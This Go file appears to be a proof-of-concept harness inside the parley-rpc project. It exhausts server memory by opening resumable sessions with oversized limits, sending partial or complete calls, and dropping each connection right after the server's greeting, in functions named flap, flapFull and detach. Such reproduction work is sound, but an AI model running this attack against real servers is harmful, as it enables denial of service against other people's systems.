package main

import (
	"context"

	"github.com/parley-rpc/parley/internal/frame"
)

// mostKept is what sessions without a link may cost that have much to say: the
// bound of what they keep is 256 MiB by default, to which come the sessions
// themselves, and the garbage collector lets the heap grow to twice what is in
// use.
const mostKept = 768 << 20

// resumable asks the server to keep the session.
var resumable = frame.Hello{MaxStreams: 1 << 20, InitialWindow: 1 << 40, MaxMessage: 1 << 30, ResumeWindow: 30_000}

// flap makes a session, and cuts its link as soon as the server has sent HELLO:
// the server keeps the session.
func flap(ctx context.Context, addr string, n *tally) error {
	return cutAfterGreeting(ctx, addr, "", n)
}

// flapFull does the same to sessions whose calls go on to be answered.
func flapFull(ctx context.Context, addr string, n *tally) error {
	call := open(nil, 1, pour, nil)
	call = frame.Append(call, frame.Header{Type: frame.TypeData, Flags: frame.FlagEnd, Stream: 1}, nil)
	return cutAfterGreeting(ctx, addr, "", n, call)
}

// detach does the same as one principal, to sessions with handlers that wait
// for messages of which a part has come.
func detach(ctx context.Context, addr string, n *tally) error {
	const calls = 16
	first := make([][]byte, calls)
	for i := range first {
		id := uint64(2*i + 1)
		first[i] = open(nil, id, take, nil)
		first[i] = frame.Append(first[i], frame.Header{Type: frame.TypeData, Flags: frame.FlagMore, Stream: id}, zeroPiece)
	}
	return cutAfterGreeting(ctx, addr, "mallory", n, first...)
}

// cutAfterGreeting sends HELLO as a user and messages, and cuts the link when
// the server has sent HELLO.
func cutAfterGreeting(ctx context.Context, addr, name string, n *tally, first ...[]byte) error {
	link, err := dial(ctx, addr, name)
	if err != nil {
		return err
	}
	defer link.Close(1006, "") //nolint:errcheck // that is the attack
	for _, msg := range append([][]byte{resumable.Append(nil)}, first...) {
		if err := link.WriteMessage([][]byte{msg}); err != nil {
			return err
		}
	}
	if _, err := link.NextReader(); err != nil {
		return err
	}
	n.units.Add(1)
	return nil
}
